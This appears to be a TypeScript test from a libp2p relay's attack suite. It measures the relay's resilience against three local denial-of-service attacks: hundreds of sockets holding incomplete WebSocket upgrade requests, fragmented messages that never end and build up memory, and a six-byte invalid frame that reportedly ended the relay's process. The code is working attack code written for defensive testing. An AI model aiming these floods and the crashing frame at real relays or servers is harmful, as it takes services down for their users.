import { once } from 'node:events'
import { connect, type Socket } from 'node:net'

import { webSockets } from '@libp2p/websockets'
import { multiaddr } from '@multiformats/multiaddr'
import { WebSocket } from 'ws'

import type { Attack } from '../attack.ts'
import { Victim } from '../floods/children.ts'
import { AttackedNetwork } from '../network.ts'

const MIB = 2 ** 20
/** More than a process may open on many systems. */
const SOCKETS = { short: 300, full: 900 }
/** What the attacker sends on every other socket. The empty line after the last header never comes. */
const HALF_REQUEST = 'GET / HTTP/1.1\r\nHost: potluck\r\nUpgrade: websocket\r\n'
/** One message in pieces, of which the last never comes. The package ws keeps up to 100 MiB of it. */
const PIECE_BYTES = 512 * 1024
const PIECES = 128
const MESSAGES = 4
/** An operation that does not exist. */
const INVALID_FRAME = Uint8Array.of(0x83, 0x80, 0, 0, 0, 0)

export const attack: Attack = {
  title:
    'opens sockets to a relay that never finish their WebSocket request, messages that never end, and invalid frames',
  cost: '1 address, 900 sockets; 256 MiB; 6 bytes',
  before:
    'the relay kept 900 of 900 sockets, and 240 to 270 MiB for 4 messages; a single invalid frame ended its process',

  async run({ short, note }) {
    await using network = new AttackedNetwork()
    await using victim = new Victim('relay')
    const addresses = (await victim.ready).map((address) => multiaddr(address))
    const web = addresses.find((address) => address.toString().includes('/ws'))!
    const port = Number(/\/tcp\/(\d+)/u.exec(web.toString())?.[1])

    const count = short ? SOCKETS.short : SOCKETS.full
    const sockets = await Promise.all(
      Array.from({ length: count }, async (_, index) => await half(port, index % 2 === 0))
    )
    const open = (): number => sockets.filter((socket) => !socket.closed && !socket.destroyed).length
    // The relay closes the surplus as the sockets arrive. An honest dial arrives after all of them.
    const honest = await network.peer({ addresses: { listen: [] }, transports: [webSockets()] })
    const connected = await honest.dial(web).then(
      () => 1,
      () => 0
    )
    const held = open()
    note(`the relay holds ${held} of ${count} sockets`)
    for (const socket of sockets) socket.destroy()

    const before = await victim.ask()
    let most = before.rssBytes
    const messages = Array.from({ length: MESSAGES }, () => new WebSocket(`ws://127.0.0.1:${port}`))
    for (const socket of messages) {
      // The relay ends the connection when a message is too long.
      socket.on('error', () => undefined)
      await once(socket, 'open')
    }
    for (let piece = 0; piece < PIECES; piece++) {
      for (const socket of messages) await sendPiece(socket)
      most = Math.max(most, (await victim.ask()).rssBytes)
    }
    const grown = (most - before.rssBytes) / MIB
    note(`the relay has ${grown.toFixed(0)} MiB more for ${MESSAGES} messages`)
    for (const socket of messages) socket.terminate()

    const breaking = new WebSocket(`ws://127.0.0.1:${port}`)
    breaking.on('error', () => undefined)
    await once(breaking, 'open')
    const { _socket: tcp } = breaking as unknown as { _socket: Socket }
    tcp.write(INVALID_FRAME)
    await once(breaking, 'close')
    const alive = await victim.ask().then(
      () => 1,
      () => 0
    )
    return [
      { metric: 'sockets without a request that the relay keeps', value: held, limit: { atMost: 128 } },
      { metric: 'honest WebSocket connections, of 1', value: connected, limit: { atLeast: 1 } },
      { metric: 'memory for messages without an end, MiB', value: grown, limit: { atMost: 64 } },
      { metric: 'relays that survive an invalid frame, of 1', value: alive, limit: { atLeast: 1 } }
    ]
  }
}

/** Resolves when the socket is open. */
async function half(port: number, speaks: boolean): Promise<Socket> {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => undefined)
  // Otherwise the end of the socket is not noticed.
  socket.resume()
  await Promise.race([once(socket, 'connect'), once(socket, 'close')])
  if (speaks) socket.write(HALF_REQUEST)
  return socket
}

/** Resolves when the system has taken the piece, or the connection is closed. */
async function sendPiece(socket: WebSocket): Promise<void> {
  if (socket.readyState !== WebSocket.OPEN) return
  const { promise, resolve } = Promise.withResolvers<void>()
  const ended = (): void => resolve()
  socket.once('close', ended)
  socket.send(new Uint8Array(PIECE_BYTES), { fin: false, binary: true }, ended)
  await promise
  socket.off('close', ended)
}
